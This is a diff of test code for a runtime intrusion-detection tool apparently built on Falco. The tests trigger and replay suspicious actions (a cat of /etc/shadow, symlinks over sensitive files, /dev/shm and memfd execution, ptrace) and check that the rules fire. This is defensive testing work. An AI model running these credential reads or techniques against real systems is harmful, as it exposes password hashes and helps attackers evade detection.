+# ContainerTty only serves the upstream 'Terminal shell in container' test.
+for cls in SCENARIOS:
+    if cls is not ContainerTty:
+        globals()["test_live_" + cls.name] = live_positive(cls)
+        globals()["test_live_" + cls.name + "_near_miss"] = live_near_miss(cls)
+
+
+# ---- stored recordings -------------------------------------------------------------------
+#
+# Expected alerts of each stored recording, with the values its recording had
+# (paths and ports chosen when it was recorded are kept in STORED_VALUES).
+
+STORED_VALUES_FILE = os.path.join(ra.CAPTURES, "values.json")
+
+
+def _stored_values():
+    import json
+    if not os.path.exists(STORED_VALUES_FILE):
+        return {}
+    with open(STORED_VALUES_FILE) as f:
+        return json.load(f)
+
+
+def _expectations():
+    out = {}
+    for name, exp in _stored_values().items():
+        out[name] = [(rule, {f: Contains(v["contains"]) if isinstance(v, dict) else v
+                             for f, v in fields.items()}) for rule, fields in exp]
+    return out
+
+
+STORED_EXPECTATIONS = _expectations()
+
+for name in sorted(STORED_EXPECTATIONS):
+    if name in BY_NAME:
+        globals()["test_replay_" + name] = replay_stored(BY_NAME[name])
+
+
+def test_replay_all_scenarios_stored(ctx):
+    """Every scenario with a meaningful live recording has it stored."""
+    wanted = [s.name for s in SCENARIOS if s not in NOT_STORED]
+    missing = [n for n in wanted if n not in STORED_EXPECTATIONS or not os.path.exists(stored_capture(n))]
+    assert not missing, "no stored recording for %s (python3 tests/record_actions.py)" % missing
+
+
+def test_replay_background_only_expected_rules(ctx):
+    """Every stored recording (its actions plus this test process's own
+    activity while recording) raises only the rules its scenario expects."""
+    problems = []
+    for name in sorted(STORED_EXPECTATIONS):
+        sc = BY_NAME[name](ctx, ra.CAPTURES)
+        alerts = ra.replay(ctx, stored_capture(name), RULES)
+        extra = sorted({a["rule"] for a in alerts} - expected_in_whole(sc))
+        if extra:
+            problems.append("%s: %s" % (name, extra))
+    assert STORED_EXPECTATIONS, "no stored recordings"
+    assert not problems, "unexpected rules: %s" % problems
+
+
+def test_rules_describe_themselves(ctx):
+    """harrier -L lists every default rule with its description."""
+    p = ctx.run([ctx.bin("harrier"), "-r", RULES, "-L", "-o", "log_stderr=false"])
+    text = p.stdout.decode()
+    names = rule_names()
+    missing = [n for n in sorted(names) if n not in text]
+    assert not missing, "harrier -L does not list %s:\n%s" % (missing, text[:2000])
+    for scenario_rule in {s.rule for s in SCENARIOS} - {PrivilegedContainer.rule}:
+        assert scenario_rule in names, "no rule %r in %s" % (scenario_rule, RULES)
+
+
+def test_live_container_names_in_alert(ctx):
+    """The container-shell alert names the container and its image."""
+    rec = record(ctx, ContainerShell)
+    alerts = [a for a in ra.replay(ctx, rec.positive, RULES) if a["rule"] == ContainerShell.rule]
+    assert alerts, "no container-shell alert"
+    f = alerts[0]["output_fields"]
+    assert f.get("container.id") not in (None, "host") and len(f["container.id"]) == 12, f
+    assert f.get("container.name") == container_name("shell") and f.get("container.image") == IMAGE, f
+
+
+def test_live_user_name_in_alert(ctx):
+    """Alerts of a live recording name the user."""
+    rec = record(ctx, SensitiveRead)
+    alerts = [a for a in ra.replay(ctx, rec.positive, RULES) if a["rule"] == SensitiveRead.rule]
+    assert alerts and alerts[0]["output_fields"].get("user.name") == "root", alerts[:1]
+
+
+def test_live_vfork_spawned_program_named(ctx):
+    """A program started with vfork (as Python's subprocess does) is named in
+    its alert by its own name, and so is every event it makes after its exec,
+    not its parent's name."""
+    work = tempfile.mkdtemp(prefix="harrier-rules-vfork-")
+    full = os.path.join(work, "full.scap")
+    cut = os.path.join(work, "cut.scap")
+    cat = copy_program("/bin/cat", work, "cat")
+    rec = ra.Recording(ctx, full)
+    try:
+        rec.marker()
+        direct = ra.run_action([cat, "/etc/shadow"])                     # Python's subprocess: vfork
+        dash = ra.run_action(["/bin/dash", "-c", "%s /etc/shadow; true" % cat])  # dash: vfork too
+        rec.stop()
+    finally:
+        rec.kill()
+    ra.trim(ctx, full, cut, "(%s or %s)" % (direct.tree_filter(), dash.tree_filter()))
+    alerts = [x for x in ra.replay(ctx, cut, RULES) if x["rule"] == SensitiveRead.rule]
+    p = ctx.inspect("-r", cut, "-p", "%thread.tid %evt.type %proc.name",
+                    "proc.apid=%d or thread.tid=%d" % (dash.pid, direct.pid))
+    shutil.rmtree(work)
+    lines = p.stdout.decode().splitlines()
+    cats = {line.split()[0] for line in lines if line.endswith(" execve cat")}
+    assert len(cats) == 2, "two execs of cat expected:\n%s" % "\n".join(lines[-20:])
+    renamed = []
+    for tid in cats:
+        mine = [line for line in lines if line.split()[0] == tid]
+        after = mine[[i for i, line in enumerate(mine) if line.endswith(" execve cat")][0]:]
+        renamed += [line for line in after if not line.endswith(" cat")]
+    assert not renamed, "events of cat after its exec named otherwise: %s" % renamed[:5]
+    assert len(alerts) == 2 and all(x["output_fields"]["proc.name"] == "cat" for x in alerts), \
+        [x["output"] for x in alerts]
+
+
+# ---- the upstream stable rules ------------------------------------------------------------
+
+def test_upstream_rules_load_alongside(ctx):
+    """Falco's stable rules load next to Harrier's without errors."""
+    p = ctx.run([ctx.bin("harrier"), "-V", RULES, "-V", UPSTREAM, "-o", "json_output=true",
+                 "-o", "log_stderr=false"], check=False)
+    import json
+    results = json.loads(p.stdout)["falco_load_results"]
+    errors = [e for r in results for e in r["errors"]]
+    assert p.returncode == 0 and not errors, errors[:3]
+
+
+def upstream_fires(cls, upstream_rule, fields):
+    def test(ctx):
+        rec = record(ctx, cls)
+        alerts = ra.replay(ctx, rec.positive, RULES, UPSTREAM)
+        check_expected(alerts, [(upstream_rule, fields)], "upstream on " + cls.name)
+        near = [a for a in ra.replay(ctx, rec.near_miss, RULES, UPSTREAM) if a["rule"] == upstream_rule]
+        assert not near, "upstream %r on the near miss: %s" % (upstream_rule, near[:2])
+    test.__doc__ = "Falco's %r fires on the %s action." % (upstream_rule, cls.name)
+    return test
+
+
+test_upstream_read_sensitive_file_untrusted = upstream_fires(
+    SensitiveRead, "Read sensitive file untrusted", {"fd.name": "/etc/shadow", "proc.name": "cat"})
+test_upstream_create_symlink_over_sensitive_files = upstream_fires(
+    Symlink, "Create Symlink Over Sensitive Files", {"proc.name": "ln"})
+test_upstream_execution_from_dev_shm = upstream_fires(DevShmExec, "Execution from /dev/shm", {})
+test_upstream_fileless_execution_via_memfd_create = upstream_fires(
+    Memfd, "Fileless execution via memfd_create", {})
+test_upstream_ptrace_attached_to_process = upstream_fires(
+    Ptrace, "PTRACE attached to process", {"proc.name": "python3"})
+test_upstream_terminal_shell_in_container = upstream_fires(
+    ContainerTty, "Terminal shell in container", {"proc.name": "bash", "container.image": IMAGE})
+
+
+def test_replay_background_with_upstream_rules(ctx):
+    """The stored recordings raise no upstream rule beyond the ones their
+    scenarios are about."""
+    upstream_for = {"sensitive_file_read": {"Read sensitive file untrusted"},
+                    "symlink_to_sensitive_file": {"Create Symlink Over Sensitive Files"},
+                    "exec_from_dev_shm": {"Execution from /dev/shm"},
+                    "fileless_memfd_exec": {"Fileless execution via memfd_create"},
+                    "ptrace_attach": {"PTRACE attached to process"}}
+    problems = []
+    for name in sorted(STORED_EXPECTATIONS):
+        sc = BY_NAME[name](ctx, ra.CAPTURES)
+        alerts = ra.replay(ctx, stored_capture(name), RULES, UPSTREAM)
+        extra = sorted({a["rule"] for a in alerts} - expected_in_whole(sc) - upstream_for.get(name, set()))
+        if extra:
+            problems.append("%s: %s" % (name, extra))
+    assert not problems, "unexpected rules: %s" % problems
+
+
+# ---- recording the stored captures (python3 tests/record_actions.py) ------------------------
+
+# Scenarios whose live recordings lack what their rules need (container
+# metadata, link syscalls): nothing worth storing yet.
+NOT_STORED = {ContainerShell, ContainerTty, PacketSocket, ReleaseAgent, PrivilegedContainer, Hardlink}
+
+
+def record_all(ctx, directory):
+    """Records every scenario worth storing and stores its whole-test cut,
+    gzip-compressed, with the expectations its values give."""
+    import json
+    values = _stored_values()
+    for cls in SCENARIOS:
+        if cls in NOT_STORED:
+            continue
+        rec = record(ctx, cls)
+        out = os.path.join(directory, cls.name + ".scap")
+        with open(rec.whole, "rb") as f, gzip.open(out, "wb", compresslevel=9) as g:
+            g.write(f.read())
+        values[cls.name] = [(rule, {f: v.to_json() if isinstance(v, Contains) else v
+                                    for f, v in fields.items()})
+                            for rule, fields in rec.scenario.expect()]
+        print("%s: %d bytes" % (out, os.path.getsize(out)))
+    with open(STORED_VALUES_FILE, "w") as f:
+        json.dump(values, f, indent=1, sort_keys=True)
+        f.write("\n")
